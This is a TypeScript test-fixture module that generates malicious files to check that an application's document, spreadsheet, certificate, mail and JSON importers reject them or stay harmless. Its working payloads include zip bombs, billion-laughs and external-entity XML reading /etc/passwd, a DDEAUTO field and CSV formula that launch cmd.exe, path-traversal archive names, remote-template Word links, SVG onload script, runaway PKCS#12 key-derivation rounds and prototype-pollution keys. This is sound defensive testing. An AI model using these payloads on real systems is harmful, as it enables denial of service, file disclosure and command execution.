/** Files that somebody made to do harm, by the place where they come in. Made on asking: some take a moment. */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { crc32, deflateRawSync } from 'node:zlib'
import forge from 'node-forge'
import { lyingZip, pictureHeader, relationship, swollen, W, wordPieces, workbook } from './packages.ts'

export type Place =
  | 'letterhead'
  | 'verify'
  | 'import'
  | 'learning'
  | 'certificate'
  | 'receipt'
  | 'minutes'
  | 'keys'

export type HostileFile = {
  place: Place
  what: string
  make: () => Uint8Array
  /** `refused`: a sentence and nothing else. `harmless`: may be taken, but nothing of `never` is in what comes of it. */
  expects: 'refused' | 'harmless'
  never?: RegExp
  fileName?: string
}

const text = (words: string): Uint8Array => new Uint8Array(Buffer.from(words, 'utf8'))
const word = (change: Parameters<typeof wordPieces>[0] = {}, more: Parameters<typeof lyingZip>[0] = []) =>
  lyingZip([...wordPieces(change), ...more])

/** An entity that stands for a billion words, and one that would read a file of this machine. */
const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${'bcdefghij'
  .split('')
  .map((name, n) => `<!ENTITY ${name} "${`&${'abcdefghij'[n]};`.repeat(10)}">`)
  .join('')}]>`
const outside =
  '<!DOCTYPE l [<!ENTITY j SYSTEM "file:///etc/passwd"><!ENTITY % k SYSTEM "http://127.0.0.1:9/x.dtd"> %k;]>'

const nested = (depth: number) => `${'<w:p>'.repeat(depth)}x${'</w:p>'.repeat(depth)}`

function png(wide: number, high: number): Uint8Array {
  const chunk = (kind: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(kind), data])
    const head = Buffer.alloc(4)
    head.writeUInt32BE(data.length)
    const tail = Buffer.alloc(4)
    tail.writeUInt32BE(crc32(body))
    return Buffer.concat([head, body, tail])
  }
  const size = Buffer.alloc(13)
  size.writeUInt32BE(wide, 0)
  size.writeUInt32BE(high, 4)
  size.set([8, 2, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', size),
    chunk('IDAT', deflateRawSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function jpeg(wide: number, high: number): Uint8Array {
  const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0])
  frame.writeUInt16BE(high, 5)
  frame.writeUInt16BE(wide, 7)
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    frame,
    Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 0x3f, 0, 0, 0xff, 0xd9]),
  ])
}

const withPicture = (bytes: Uint8Array, name = 'image1.png') =>
  word({ header: pictureHeader, headerLinks: relationship('rId7', 'image', `media/${name}`) }, [
    { name: `word/media/${name}`, data: bytes },
  ])

const OUTSIDE_TARGET =
  /example\.org|etc\/passwd|127\.0\.0\.1:9|root:x:|vbaProject|oleObject|altChunk|attachedTemplate/
const packed = (name: string) => lyingZip([{ name, data: 'x' }, ...wordPieces()])

/** Names that would leave the folder, or the world of one program's file names. */
const slippery = [
  '../../evil.xml',
  '/etc/evil.xml',
  'C:/evil.xml',
  '..\\..\\evil.xml',
  'word/\u0000evil.xml',
  'word/\u202elmx.exe',
  'WORD/document.xml',
  'word/dócument.xml',
  'con',
  'a'.repeat(60_000),
]

function containers(place: 'letterhead' | 'verify'): HostileFile[] {
  const bomb = (size?: number) => {
    const { bytes, crc, size: real } = swollen(180_000_000)
    return lyingZip([...wordPieces(), { name: 'word/big.xml', packed: { bytes, crc, size: size ?? real } }])
  }
  const cases: [what: string, make: () => Uint8Array][] = [
    ['a part that unpacks to 180 MB', () => bomb()],
    ['a part that unpacks to 180 MB and says that it is small', () => bomb(100)],
    ['a part that says that it is four gigabytes', () => bomb(0xfffffff0)],
    [
      'twenty parts of 100 MB',
      () => {
        const big = swollen(100_000_000)
        return lyingZip([
          ...wordPieces(),
          ...Array.from({ length: 20 }, (_, n) => ({ name: `word/b${n}.xml`, packed: big })),
        ])
      },
    ],
    [
      'a container in a container in a container',
      () => {
        let inner = lyingZip([{ name: 'x', packed: swollen(50_000_000) }])
        for (let n = 0; n < 8; n += 1) inner = lyingZip([{ name: 'x.zip', data: inner }])
        return lyingZip([...wordPieces(), { name: 'word/inner.docx', data: inner }])
      },
    ],
    [
      'sixty thousand parts',
      () => lyingZip(Array.from({ length: 60_000 }, (_, n) => ({ name: `p${n}`, data: '' }))),
    ],
    ['a list that says it has more parts than it has', () => lyingZip(wordPieces(), { count: 65_000 })],
    [
      'parts that lie over one another',
      () =>
        lyingZip(
          Array.from({ length: 3_000 }, () => ({ name: 'word/document.xml', packed: swollen(60_000) })),
          { overlap: true },
        ),
    ],
    [
      'sizes in the form of ZIP64',
      () =>
        lyingZip(
          wordPieces().map((one) => ({ ...one, extra: Buffer.from([1, 0, 16, 0, ...Array(16).fill(255)]) })),
        ),
    ],
    ['parts that are encrypted', () => lyingZip(wordPieces().map((one) => ({ ...one, flags: 1 })))],
    ['half a container', () => word().subarray(0, 700)],
    ['nothing but an end', () => word().subarray(-22)],
    ['an empty file', () => new Uint8Array()],
    ['ten megabytes of nothing', () => new Uint8Array(9_900_000)],
    [
      'a document type with a billion words',
      () => word({ before: laughs, header: '<w:p><w:r><w:t>&j;</w:t></w:r></w:p>' }),
    ],
    [
      'a document type that reads a file of this machine',
      () => word({ before: outside, header: '<w:p><w:r><w:t>&j;</w:t></w:r></w:p>' }),
    ],
    [
      'a document type in another alphabet',
      () =>
        lyingZip(
          wordPieces().map((one) =>
            one.name === 'word/header1.xml'
              ? {
                  ...one,
                  data: Buffer.from(
                    `\ufeff<?xml version="1.0" encoding="UTF-16"?>${outside}<x>&j;</x>`,
                    'utf16le',
                  ),
                }
              : one,
          ),
        ),
    ],
    [
      'a document type in the list of kinds',
      () =>
        lyingZip(
          wordPieces().map((one) =>
            one.name === '[Content_Types].xml'
              ? { ...one, data: String(one.data).replace('<Types', `${outside}<Types`) }
              : one,
          ),
        ),
    ],
    [
      'a hundred thousand paragraphs inside one another',
      () => word({ header: nested(100_000), body: nested(100_000) }),
    ],
    [
      'two thousand paragraphs inside one another',
      () => word({ header: nested(2_000), body: nested(2_000) }),
    ],
    ['a million elements', () => word({ body: '<w:p/>'.repeat(600_000) })],
    ['a list of links that is not one', () => word({ links: '<x/>' })],
    ...slippery.map((name): [string, () => Uint8Array] => [
      `a part with the name ${JSON.stringify(name.slice(0, 30))}`,
      () => packed(name),
    ]),
  ]
  return cases.map(([what, make]) => ({ place, what, make, expects: 'harmless', never: OUTSIDE_TARGET }))
}

const letterheads: HostileFile[] = [
  ...containers('letterhead'),
  ...(
    [
      [
        'macros',
        () =>
          word(
            {
              types:
                '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            },
            [{ name: 'word/vbaProject.bin', data: 'x' }],
          ),
      ],
      [
        'a template from an address',
        () =>
          word({ links: relationship('rId8', 'attachedTemplate', 'https://example.org/evil.dotm', true) }),
      ],
      [
        'a template from a shared folder',
        () =>
          word({
            links: relationship('rId8', 'attachedTemplate', 'file://example.org/share/evil.dotm', true),
          }),
      ],
      [
        'a picture from an address',
        () =>
          word({
            header: pictureHeader,
            headerLinks: relationship('rId7', 'image', 'https://example.org/seen.png', true),
          }),
      ],
      [
        'an object from an address',
        () => word({ headerLinks: relationship('rId7', 'oleObject', 'https://example.org/x', true) }),
      ],
      [
        'a frame from an address',
        () => word({ links: relationship('rId9', 'frame', 'https://example.org/x', true) }),
      ],
    ] as [string, () => Uint8Array][]
  ).map(([what, make]): HostileFile => ({ place: 'letterhead', what, make, expects: 'refused' })),
  ...(
    [
      [
        'an embedded program',
        () =>
          word({ headerLinks: relationship('rId7', 'oleObject', 'embeddings/oleObject1.bin') }, [
            { name: 'word/embeddings/oleObject1.bin', data: 'MZ' },
          ]),
      ],
      [
        'a document inside the document',
        () =>
          word({ links: relationship('rId9', 'aFChunk', 'evil.html') }, [
            { name: 'word/evil.html', data: '<script>' },
          ]),
      ],
      [
        'a field that would load a picture',
        () =>
          word({
            header:
              '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://example.org/seen.png&quot;"/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
          }),
      ],
      ['a picture of 60,000 by 60,000 dots', () => withPicture(png(60_000, 60_000))],
      ['a picture of no size', () => withPicture(png(0, 0))],
      ['a picture of 4,294,967,295 dots', () => withPicture(png(0xffffffff, 1))],
      ['a photograph of 60,000 by 60,000 dots', () => withPicture(jpeg(60_000, 60_000), 'image1.jpeg')],
      [
        'a drawing of the old kind that says it is a picture',
        () => withPicture(text('\u0001\u0000\u0000\u0000EMF')),
      ],
      [
        'a drawing with a script',
        () =>
          withPicture(
            text(
              '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="60000"><image href="https://example.org/x"/></svg>',
            ),
          ),
      ],
      [
        'styles that are based on one another in a circle',
        () =>
          word({ links: relationship('rId2', 'styles', 'styles.xml') }, [
            {
              name: 'word/styles.xml',
              data: `<w:styles ${W}>${'ab'
                .split('')
                .map(
                  (id) =>
                    `<w:style w:styleId="${id}"><w:name w:val="${id === 'a' ? 'Normal' : 'heading 1'}"/><w:basedOn w:val="${id === 'a' ? 'b' : 'a'}"/></w:style>`,
                )
                .join('')}</w:styles>`,
            },
          ]),
      ],
      [
        'a header of ten thousand placeholders',
        () => word({ header: `<w:p><w:r><w:t>${'{page}{'.repeat(10_000)}</w:t></w:r></w:p>` }),
      ],
      [
        'words that turn round',
        () => word({ header: '<w:p><w:r><w:t>\u202eWexmoor\u202c \u200b</w:t></w:r></w:p>' }),
      ],
    ] as [string, () => Uint8Array][]
  ).map(
    ([what, make]): HostileFile => ({
      place: 'letterhead',
      what,
      make,
      expects: 'harmless',
      never: /example\.org|DDEAUTO|INCLUDEPICTURE|<script|onload|60000 60000|ole(O|o)bject|media\/letterhead/,
    }),
  ),
]

const cell = (at: string, words = 'Child') => `<c r="${at}" t="inlineStr"><is><t>${words}</t></is></c>`
const row = (n: number, cells: string) => `<row r="${n}">${cells}</row>`
const SHEET =
  '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
const head = 'Child,Date of birth,Reference\n'

const tables: [what: string, make: () => Uint8Array, expects: HostileFile['expects']][] = [
  [
    'a cell in the last place of a sheet',
    () => workbook(row(1, cell('A1')) + row(1_048_576, cell('XFD1048576'))),
    'refused',
  ],
  [
    'a cell in the last row',
    () => workbook(row(1, cell('A1')) + row(1_048_576, cell('B1048576'))),
    'refused',
  ],
  ['a cell behind the last column', () => workbook(row(1, cell('ZZZZZZ1'))), 'refused'],
  ['a row behind the last row', () => workbook(row(999_999_999, cell('A999999999'))), 'refused'],
  ['a place written in signs', () => workbook(row(1, cell('A1')) + row(2, cell('XF&#68;2'))), 'refused'],
  [
    'two thousand rows as wide as the sheet',
    () => workbook(Array.from({ length: 2_000 }, (_, n) => row(n + 1, cell(`XFD${n + 1}`))).join('')),
    'refused',
  ],
  [
    'a sheet that says it is as large as can be',
    () => workbook(row(1, cell('A1')), { dimension: 'A1:XFD1048576' }),
    'harmless',
  ],
  [
    'a sheet that unpacks to 150 MB',
    () => workbook(swollen(150_000_000, SHEET, '</sheetData></worksheet>')),
    'refused',
  ],
  [
    'a sheet that unpacks to 150 MB and says that it is small',
    () => workbook({ ...swollen(150_000_000, SHEET, '</sheetData></worksheet>'), size: 10 }),
    'refused',
  ],
  [
    'a document type with a billion words',
    () => workbook(row(1, cell('A1', '&j;')), { before: laughs }),
    'harmless',
  ],
  [
    'a document type that reads a file of this machine',
    () => workbook(row(1, cell('A1', '&j;')), { before: outside }),
    'harmless',
  ],
  [
    'a million elements inside one another',
    () => workbook(`${'<a>'.repeat(300_000)}${'</a>'.repeat(300_000)}`),
    'refused',
  ],
  ['a workbook of nothing', () => lyingZip([]), 'refused'],
  [
    'names that leave the folder',
    () =>
      workbook(row(1, cell('A1')), {
        more: [
          { name: '../../evil.xml', data: 'x' },
          { name: '__proto__.xml', data: 'x' },
        ],
      }),
    'harmless',
  ],
  ['a place of cells that is not one', () => workbook(row(1, cell('__proto__'))), 'refused'],
  ['twenty-one megabytes', () => new Uint8Array(21 * 1024 * 1024).fill(65), 'refused'],
  ['ten megabytes in one line', () => text(`${head}${'x'.repeat(10_000_000)}`), 'harmless'],
  ['a million columns', () => text(`${'a,'.repeat(1_000_000)}\n`), 'refused'],
  ['nineteen million commas', () => new Uint8Array(19_000_000).fill(44), 'refused'],
  ['ten million quotation marks', () => new Uint8Array(10_000_000).fill(34), 'refused'],
  ['a quotation that never closes', () => text(`${head}"${'a\n'.repeat(1_000_000)}`), 'refused'],
  ['a million empty lines', () => text(`${head}${'\n'.repeat(1_000_000)}`), 'refused'],
  ['letters without meaning', () => text('\u0000\u0001\u0002'), 'refused'],
  ['nothing in the middle', () => text(`${head}Ellie\u0000,2019-01-01,1\n`), 'refused'],
  [
    'bytes that are no letters',
    () => new Uint8Array([...text(head), 0xff, 0xfe, 0xc3, 0x28, 0x2c, 0x0a]),
    'harmless',
  ],
  [
    'two bytes for a letter, and one too few',
    () => new Uint8Array([0xff, 0xfe, 0x41, 0x00, 0x2c]),
    'harmless',
  ],
  [
    'two bytes for a letter, without saying so',
    () => new Uint8Array(Buffer.from(head, 'utf16le')),
    'refused',
  ],
  ['formulas', () => text(`${head}=cmd|'/C calc'!A0,@SUM(1),+1\n\t=1,\uff1d1,-1\n`), 'harmless'],
  ['a name that turns round', () => text(`${head}\u202eeillE\u202c,2019-01-01,\u200bWX-1\n`), 'harmless'],
  ['headings of the language’s own', () => text('__proto__,constructor,toString\na,b,c\n'), 'harmless'],
  ['half a surrogate', () => new Uint8Array([...text(head), 0xed, 0xa0, 0x80, 0x0a]), 'harmless'],
]

/** A certificate file that would keep the machine busy for ever, or break the reader. */
function certificateFile(rounds: number | string, bags = 1, saltSize = 8): Uint8Array {
  const { asn1, pki } = forge
  const node = (type: number, value: string | forge.asn1.Asn1[], cls = asn1.Class.UNIVERSAL) =>
    asn1.create(cls, type, typeof value !== 'string', value)
  const oid = (name: string) => node(asn1.Type.OID, asn1.oidToDer(name).getBytes())
  const number = (n: number | string) =>
    node(asn1.Type.INTEGER, typeof n === 'string' ? n : asn1.integerToDer(n).getBytes())
  const octets = (bytes: string) => node(asn1.Type.OCTETSTRING, bytes)
  const inside = (one: forge.asn1.Asn1) => node(0, [one], asn1.Class.CONTEXT_SPECIFIC)
  const sequence = (...parts: forge.asn1.Asn1[]) => node(asn1.Type.SEQUENCE, parts)
  const algorithm = sequence(
    oid('1.2.840.113549.1.12.1.3'),
    sequence(octets('s'.repeat(saltSize)), number(rounds)),
  )
  const bag = sequence(
    oid(pki.oids.pkcs8ShroudedKeyBag as string),
    inside(sequence(algorithm, octets('x'.repeat(64)))),
  )
  const safe = asn1.toDer(sequence(...Array.from({ length: bags }, () => bag))).getBytes()
  const auth = asn1.toDer(sequence(sequence(oid(pki.oids.data as string), inside(octets(safe))))).getBytes()
  const pfx = sequence(number(3), sequence(oid(pki.oids.data as string), inside(octets(auth))))
  return new Uint8Array(Buffer.from(asn1.toDer(pfx).getBytes(), 'latin1'))
}

const deepDer = (depth: number): Uint8Array => {
  const bytes = Buffer.alloc(depth * 2)
  for (let at = 0; at < depth; at += 1) bytes.set([0x30, 0x80], at * 2)
  return new Uint8Array(bytes)
}

const certificates: [string, () => Uint8Array][] = [
  ['two billion rounds', () => certificateFile(2_000_000_000)],
  ['a number of rounds of a hundred digits', () => certificateFile('\x7f'.repeat(40))],
  ['no rounds', () => certificateFile(0)],
  ['a thousand keys of a hundred thousand rounds each', () => certificateFile(100_000, 1_000)],
  ['five thousand keys of two thousand rounds each', () => certificateFile(2_000, 5_000)],
  ['a salt of 900 kB', () => certificateFile(2_000, 1, 900_000)],
  ['a hundred thousand shells inside one another', () => deepDer(100_000)],
  ['two megabytes', () => new Uint8Array(2_000_000)],
  ['nothing', () => new Uint8Array()],
  [
    'a length that goes on and on',
    () => new Uint8Array([0x30, 0x88, 255, 255, 255, 255, 255, 255, 255, 255]),
  ],
]

const mail = (more: string, body: string): Uint8Array =>
  text(
    `From: postmaster@example.org\r\nTo: a@example.org\r\nSubject: Undeliverable: x\r\nDate: Mon, 30 Nov 2026 08:00:00 +0000\r\n${more}\r\n${body}`,
  )
const N = 900_000
const html = 'Content-Type: text/html\r\n'
const receipts: [string, () => Uint8Array][] = [
  ...[
    '<',
    '<style ',
    '<!--',
    '<li ',
    '<ul',
    '<a href=',
    '<script>',
    '&amp;',
    'a',
    'a@',
    'd-',
    ' ',
    '\n ',
  ].map((piece): [string, () => Uint8Array] => [
    `a mail of nothing but ${JSON.stringify(piece)}`,
    () => mail(piece.startsWith('<') || piece.startsWith('&') ? html : '', piece.repeat(N / piece.length)),
  ]),
  [
    'a date of brackets',
    () => text(`From: a@b.c\r\nTo: a@b.c\r\nSubject: x\r\nDate: ${'('.repeat(200_000)}\r\n\r\nx`),
  ],
  [
    'ten thousand parts',
    () => mail('Content-Type: multipart/mixed; boundary=a\r\n', '--a\r\n\r\nx\r\n'.repeat(60_000)),
  ],
  [
    'parts inside one another without end',
    () =>
      mail(
        'Content-Type: multipart/mixed; boundary=a\r\n',
        '--a\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n'.repeat(15_000),
      ),
  ],
  ['mails inside one another', () => mail('', 'Content-Type: message/rfc822\r\n\r\n'.repeat(25_000))],
  ['a header of a megabyte', () => mail(`X-A: ${'b'.repeat(N)}\r\n`, 'x')],
  ['a hundred thousand headers', () => mail('X-A: b\r\n'.repeat(100_000), 'x')],
  ['a hundred thousand addresses', () => mail(`Cc: ${'a <a@b.c>, '.repeat(20_000)}\r\n`, 'x')],
  ['quotation marks for an address', () => mail(`Cc: ${'"'.repeat(200_000)}\r\n`, 'x')],
  [
    'a report whose lines never end',
    () => mail('Content-Type: message/delivery-status\r\n', `\n${' '.repeat(N)}`),
  ],
  [
    'an alphabet that does not exist',
    () => mail('Content-Type: text/plain; charset=x-evil\r\nContent-Transfer-Encoding: base64\r\n', '===='),
  ],
  ['nothing at all between its lines', () => mail('', '\u0000'.repeat(N))],
  ['a PDF', () => text(`%PDF-1.7\n${'<<'.repeat(400_000)}`)],
  [
    'an item of Outlook of 24 MB',
    () =>
      new Uint8Array(
        Buffer.concat([
          Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
          Buffer.alloc(24_000_000, 'D-'),
        ]),
      ),
  ],
  ['twenty-six megabytes', () => new Uint8Array(26 * 1024 * 1024)],
]

const example = () =>
  JSON.parse(
    readFileSync(join(import.meta.dirname, '../../resources/examples/icpc_harcastle.json'), 'utf8'),
  ) as Record<string, unknown>
const jsons: [string, () => Uint8Array, HostileFile['expects']][] = [
  [
    'a prototype of its own',
    () => text('{"__proto__":{"administrator":true},"constructor":{"prototype":{"x":1}}}'),
    'refused',
  ],
  [
    'a hundred thousand lists inside one another',
    () => text('['.repeat(100_000) + ']'.repeat(100_000)),
    'refused',
  ],
  ['five thousand lists inside one another', () => text('['.repeat(5_000) + ']'.repeat(5_000)), 'refused'],
  ['a number of a million digits', () => text(`{"format":${'9'.repeat(1_000_000)}}`), 'refused'],
  [
    'two hundred thousand keys',
    () => text(`{${Array.from({ length: 200_000 }, (_, n) => `"k${n}":1`).join(',')}}`),
    'refused',
  ],
  ['ten megabytes of one word', () => text(`"${'x'.repeat(10_000_000)}"`), 'refused'],
  ['bytes that are no letters', () => new Uint8Array([0xff, 0xfe, 0x7b]), 'refused'],
  ['nothing', () => new Uint8Array(), 'refused'],
  ['null', () => text('null'), 'refused'],
]

const minutesMore: [string, () => Uint8Array][] = [
  ['sections that are a word', () => text(JSON.stringify({ ...example(), sections: 'x' }))],
  [
    'a kind of meeting of the language’s own',
    () => text(JSON.stringify({ ...example(), meeting: { type: '__proto__' } })),
  ],
  [
    'answers inside one another',
    () =>
      text(
        JSON.stringify({
          ...example(),
          answers: JSON.parse('['.repeat(2_000) + ']'.repeat(2_000)) as unknown,
        }),
      ),
  ],
]

const slot = (change: object) =>
  JSON.stringify({
    product: 'Chairside',
    format: 1,
    workspaceId: 'w',
    name: 'x',
    fictional: false,
    slots: [{ kind: 'person', personId: 'p', name: 'x', role: 'Team manager', ...change }],
  })
const keysMore: [string, () => Uint8Array][] = [
  ['a newer version of itself', () => text('{"product":"Chairside","format":99}')],
  [
    'a slot that asks for a terabyte of memory',
    () =>
      text(
        slot({
          scrypt: { N: 2 ** 40, r: 8, p: 1 },
          kdf: { name: 'scrypt', N: 2 ** 40, r: 8, p: 1, salt: 'AAAA' },
        }),
      ),
  ],
  ['a slot of the language’s own', () => text(slot({ personId: '__proto__', salt: null }))],
]

const all: HostileFile[] = [
  ...letterheads,
  ...containers('verify'),
  ...tables.flatMap(([what, make, expects]): HostileFile[] => [
    { place: 'import', what, make, expects, never: /root:x:|hahahaha/ },
    // The library of learning reads the same kinds of file; what has no table in it is refused there as well.
    ...(expects === 'refused' ? [{ place: 'learning' as const, what, make, expects }] : []),
  ]),
  ...certificates.map(
    ([what, make]): HostileFile => ({ place: 'certificate', what, make, expects: 'refused' }),
  ),
  ...receipts.map(
    ([what, make]): HostileFile => ({
      place: 'receipt',
      what,
      make,
      expects: 'harmless',
      fileName: 'receipt.eml',
    }),
  ),
  ...jsons.map(([what, make, expects]): HostileFile => ({ place: 'minutes', what, make, expects })),
  ...minutesMore.map(([what, make]): HostileFile => ({ place: 'minutes', what, make, expects: 'refused' })),
  ...jsons.map(([what, make, expects]): HostileFile => ({ place: 'keys', what, make, expects })),
  ...keysMore.map(([what, make]): HostileFile => ({ place: 'keys', what, make, expects: 'refused' })),
]

/**
 * The library of learning and the verifier share their readers with others, and a dozen mails are built alike: those are read
 * in the long run only.
 */
const isShort = ({ place, what }: HostileFile): boolean =>
  place !== 'learning' &&
  !(place === 'verify' && /MB|million|thousand|name/.test(what)) &&
  !(place === 'receipt' && /<|&|"a@"|"d-"|hundred|quotation|report/.test(what))

export const hostileFiles: HostileFile[] = process.env.CHAIRSIDE_TORTURE === '1' ? all : all.filter(isShort)
